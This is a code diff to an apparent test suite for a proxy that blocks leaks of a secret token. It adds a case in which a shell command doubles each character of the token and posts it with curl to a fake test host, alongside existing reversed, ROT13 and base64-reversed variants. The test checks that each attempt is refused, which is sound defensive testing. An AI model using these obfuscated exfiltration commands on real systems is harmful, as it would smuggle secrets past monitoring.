@@ -344,7 +344,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     });
 
     await t.step(
-      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`), in a body or a path's segment, is refused",
+      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`) or doubled, in a body or a path's segment, is refused",
       async () => {
         const turned = await sh(
           `printf %s '${token}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
@@ -356,7 +356,9 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             `curl -sS -o /dev/null -w '%{http_code}' "https://plain.fake.test/v1/p/$(printf %s '${token}' | rev)/x"; echo; ` +
             // A file's base64 turned around (47 bytes: its one `=` of padding leads).
             `printf 'TOKEN=%s\\n' '${token}' | base64 -w0 | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
-            "--data-binary @- https://plain.fake.test/v1/b64rev; echo; cat /tmp/refused",
+            "--data-binary @- https://plain.fake.test/v1/b64rev; echo; cat /tmp/refused; echo; " +
+            `printf %s '${token}' | sed 's/./&&/g' | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/doubled; echo; cat /tmp/refused",
         );
         assert.match(
           turned.stdout,
@@ -368,14 +370,22 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         );
         assert.match(turned.stdout, /\n403\n.*in the body, reversed and in ROT13/);
         assert.match(turned.stdout, /\n403\n.*in the body, in base64, reversed/);
+        assert.match(turned.stdout, /\n403\n.*in the body, each character doubled/);
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          5,
+          6,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
         for (
-          const path of ["/v1/rev", "/v1/rot13", "/v1/both", `/v1/p/${reversed}/x`, "/v1/b64rev"]
+          const path of [
+            "/v1/rev",
+            "/v1/rot13",
+            "/v1/both",
+            `/v1/p/${reversed}/x`,
+            "/v1/b64rev",
+            "/v1/doubled",
+          ]
         ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
         }
